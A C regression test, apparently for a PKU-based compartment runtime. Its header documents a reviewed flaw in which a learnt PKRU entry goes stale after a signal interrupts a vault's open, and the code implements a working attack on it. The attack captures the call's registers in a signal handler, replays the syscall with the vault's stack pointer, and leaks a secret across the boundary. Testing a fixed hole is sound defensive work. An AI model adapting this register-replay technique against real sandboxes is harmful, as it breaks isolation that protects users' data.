// Review 20, attacker model B (control of the default domain's program
// counter): the PKRU the supervisor learnt for a vault's open that a signal
// ended with EINTR stays, and a later default-domain call with the vault's
// registers and stack pointer reads whatever the vault's buffer holds then.
//
// The supervisor learns the PKRU of an open whose path lies in compartment
// memory from a stop inside that very call and keeps it for a call of that
// thread with the same number, six arguments, instruction pointer and stack
// pointer (runtime/supervisor-open.c, review 17), expecting the kernel's
// restart. A handler installed without SA_RESTART ends the call with EINTR
// instead: there is no restart, and the entry waits (for good: it is
// dropped only when fifteen others have been learnt since). The handler's
// context shows every register of the call (rax -EINTR, rip after the
// system call instruction, rsp the vault's). Here the vault gives up on
// EINTR and later keeps a secret in the same buffer; the attacker loads
// the call's registers, sets rsp to the vault's and jumps to the same
// system call instruction (libc's syscall()): the supervisor takes the
// stale entry, reads the buffer with the vault's rights and, with the
// vault's O_CREAT, creates a file named after the secret, which the vault
// never opened. (The ret after the call faults on the vault's stack; a
// SIGSEGV handler resumes the attacker's code.)
//
// Seen in the guest: ATTACK SUCCEEDED after a few interrupted opens;
// built with -DSP_SHIFT=16 (rsp 16 bytes off), thousands of replays all
// get EFAULT.
//
// Fixed (runtime/supervisor-open.c learn_pkru): the learning thread
// follows the caller under ptrace (PTRACE_SYSCALL) from the stop to its
// next system-call entry, which must be the restart with no signal
// delivered first, and on to that call's exit: the PKRU is kept only while
// the thread is inside the restart, so no call made after a handler ran,
// or after EINTR, finds it. Before, ATTACK SUCCEEDED within tens of tries.
// REQUIRES: pku
// RUN: %bulkhead_clang -fpkey-compartments -O2 -pthread %s -o %t
// RUN: %run %t | FileCheck %s
// CHECK: direct open of the vault's buffer from the default domain: Bad address
// CHECK-NOT: ATTACK SUCCEEDED
// CHECK: the vault created its journal: yes
// CHECK: attacks-rev20-learnt-pkru-stale: done
#define _GNU_SOURCE
#include <bulkhead.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#ifndef SP_SHIFT
#define SP_SHIFT 0 /* a control run shifts it: then the supervisor asks */
#endif
#define SECRET "vault-secret-0123456789abcdef"

/* The vault's buffer: first its journal's path, later a secret. */
BULKHEAD_DATA(vault) static char vault_buf[160];
BULKHEAD_DATA(vault) static char vault_dir[100];

BULKHEAD_ENTRY(vault) void vault_init(const char *dir) {
  snprintf(vault_dir, sizeof vault_dir, "%s", dir);
}

/* Opens (creates) its journal once; any error, EINTR too, is a failure:
 * 1 created, 0 failed. */
BULKHEAD_ENTRY(vault) int vault_journal(void) {
  snprintf(vault_buf, sizeof vault_buf, "%s/journal", vault_dir);
  int fd = (int)syscall(SYS_openat, AT_FDCWD, vault_buf,
                        O_RDONLY | O_CREAT, 0600L, 0L, 0L);
  if (fd < 0)
    return 0;
  close(fd);
  return 1;
}

/* Later the buffer holds a secret (never a path the vault opens). */
BULKHEAD_ENTRY(vault) void vault_keep_secret(void) {
  snprintf(vault_buf, sizeof vault_buf, "%s/%s", vault_dir, SECRET);
}

static unsigned rdpkru(void) {
  unsigned eax, edx;
  __asm__ volatile("rdpkru" : "=a"(eax), "=d"(edx) : "c"(0));
  return eax;
}

/* The interrupted call's registers, seen by the handler. */
struct regs {
  uint64_t rax, rdi, rsi, rdx, r10, r8, r9, rsp, rip;
};
__attribute__((used)) struct regs rev20_regs;
__attribute__((used)) uint64_t rev20_saved_rsp;
#define R rev20_regs
static volatile int have;
static volatile int replaying;

/* Makes the call R names, with its stack pointer; returns its rax once the
 * SIGSEGV handler has sent it to rev20_recover. */
long rev20_replay(void);
extern char rev20_recover[];
__asm__(".text\n"
        ".globl rev20_replay\n"
        "rev20_replay:\n\t"
        "push %rbx\n\tpush %rbp\n\tpush %r12\n\t"
        "push %r13\n\tpush %r14\n\tpush %r15\n\t"
        "mov %rsp, rev20_saved_rsp(%rip)\n\t"
        "lea rev20_regs(%rip), %r11\n\t"
        "mov 0(%r11), %rax\n\t"
        "mov 8(%r11), %rdi\n\t"
        "mov 16(%r11), %rsi\n\t"
        "mov 24(%r11), %rdx\n\t"
        "mov 32(%r11), %r10\n\t"
        "mov 40(%r11), %r8\n\t"
        "mov 48(%r11), %r9\n\t"
        "mov 56(%r11), %rsp\n\t"
        "jmp *64(%r11)\n"
        ".globl rev20_recover\n"
        "rev20_recover:\n\t"
        "mov rev20_saved_rsp(%rip), %rsp\n\t"
        "pop %r15\n\tpop %r14\n\tpop %r13\n\t"
        "pop %r12\n\tpop %rbp\n\tpop %rbx\n\t"
        "ret\n");

/* The ret after the replayed call reads the vault's stack: a key fault.
 * The handler resumes at rev20_recover, rax kept. */
static void on_segv(int sig, siginfo_t *si, void *ucv) {
  (void)si;
  if (!replaying) {
    signal(sig, SIG_DFL);
    return;
  }
  replaying = 0;
  ((ucontext_t *)ucv)->uc_mcontext.gregs[REG_RIP] = (greg_t)rev20_recover;
}

/* The program's handler (no SA_RESTART); the attacker's part notes the
 * registers of a vault open it ended with EINTR. */
static void on_signal(int sig, siginfo_t *si, void *ucv) {
  (void)sig, (void)si;
  greg_t *g = ((ucontext_t *)ucv)->uc_mcontext.gregs;
  const unsigned char *ip = (const unsigned char *)g[REG_RIP] - 2;
  if (g[REG_RAX] != -EINTR || g[REG_RSI] != (greg_t)(uintptr_t)vault_buf ||
      (uintptr_t)ip < (uintptr_t)syscall ||
      (uintptr_t)ip > (uintptr_t)syscall + 64 || ip[0] != 0x0f || ip[1] != 0x05)
    return;
  R.rax = SYS_openat, R.rdi = (uint64_t)g[REG_RDI],
  R.rsi = (uint64_t)g[REG_RSI], R.rdx = (uint64_t)g[REG_RDX],
  R.r10 = (uint64_t)g[REG_R10], R.r8 = (uint64_t)g[REG_R8],
  R.r9 = (uint64_t)g[REG_R9], R.rsp = (uint64_t)g[REG_RSP] - SP_SHIFT,
  R.rip = (uint64_t)(uintptr_t)ip;
  have = 1;
}

/* The program's own signals to this thread (a timer). */
static void arm_timer(void) {
  struct sigevent ev;
  memset(&ev, 0, sizeof ev);
  ev.sigev_notify = SIGEV_THREAD_ID;
  ev.sigev_signo = SIGUSR1;
  ev._sigev_un._tid = (pid_t)syscall(SYS_gettid);
  timer_t t;
  struct itimerspec it = {{0, 700000}, {0, 700000}};
  if (timer_create(CLOCK_MONOTONIC, &ev, &t) || timer_settime(t, 0, &it, NULL))
    perror("timer");
}

static long now_ms(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000L + t.tv_nsec / 1000000L;
}

int main(void) {
  setvbuf(stdout, NULL, _IONBF, 0);
  static char dir[] = "/tmp/bh-rev20s-XXXXXX";
  if (!mkdtemp(dir))
    return perror("mkdtemp"), 1;
  vault_init(dir);
  vault_keep_secret();
  unsigned pkru = rdpkru();
  int fd = open(vault_buf, O_RDONLY | O_CREAT, 0600);
  printf("direct open of the vault's buffer from the default domain: %s\n",
         fd < 0 ? strerror(errno) : "opened");
  if (fd >= 0)
    printf("ATTACK SUCCEEDED: the default domain opened the vault's buffer "
           "directly\n");

  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_sigaction = on_segv;
  sa.sa_flags = SA_SIGINFO | SA_ONSTACK | SA_NODEFER;
  sigaction(SIGSEGV, &sa, NULL);
  sa.sa_sigaction = on_signal;
  sa.sa_flags = SA_SIGINFO; /* no SA_RESTART: EINTR */
  sigaction(SIGUSR1, &sa, NULL);
  /* The vault's journal, before any signal: the supervisor lets it. */
  long created = vault_journal();
  arm_timer();

  long rounds = 0, interrupted = 0, refused = 0, start = now_ms();
  int leaked = 0;
  while (!leaked && rounds < 20000 && now_ms() - start < 90000) {
    rounds++;
    have = 0;
    if (vault_journal()) {
      created++;
      continue;
    }
    if (!have)
      continue;
    interrupted++;
    /* Later: the vault keeps a secret in the buffer; the attacker makes
     * the interrupted call again, with the vault's stack pointer. */
    vault_keep_secret();
    sigset_t all, old;
    sigfillset(&all);
    sigdelset(&all, SIGSEGV);
    sigprocmask(SIG_BLOCK, &all, &old); /* the timer's, not now */
    errno = 0;
    replaying = 1;
    long r = rev20_replay();
    int err = errno;
    sigprocmask(SIG_SETMASK, &old, NULL);
    if (r >= 0)
      leaked = 1, close((int)r);
    else if (err == EFAULT)
      refused++;
  }
  signal(SIGUSR1, SIG_IGN);

  DIR *d = opendir(dir);
  int found = 0;
  for (struct dirent *e; d && (e = readdir(d));)
    found |= !strcmp(e->d_name, SECRET);
  if (d)
    closedir(d);
  if (leaked && found)
    printf("ATTACK SUCCEEDED: a default-domain call with the registers and "
           "stack pointer of a vault open that EINTR ended created a file "
           "named after the secret the vault keeps later (%ld rounds, %ld "
           "interrupted, %ld refused before): %s/%s; PKRU now the default "
           "domain's: %s\n",
           rounds, interrupted, refused, dir, SECRET,
           rdpkru() == pkru ? "yes" : "no");
  else
    printf("held: %ld rounds, %ld interrupted, %ld replays refused "
           "(EFAULT)\n",
           rounds, interrupted, refused);
  printf("the vault created its journal: %s\n", created > 0 ? "yes" : "no");
  char p[200];
  snprintf(p, sizeof p, "%s/%s", dir, SECRET);
  unlink(p);
  snprintf(p, sizeof p, "%s/journal", dir);
  unlink(p);
  rmdir(dir);
  printf("attacks-rev20-learnt-pkru-stale: done\n");
  return 0;
}
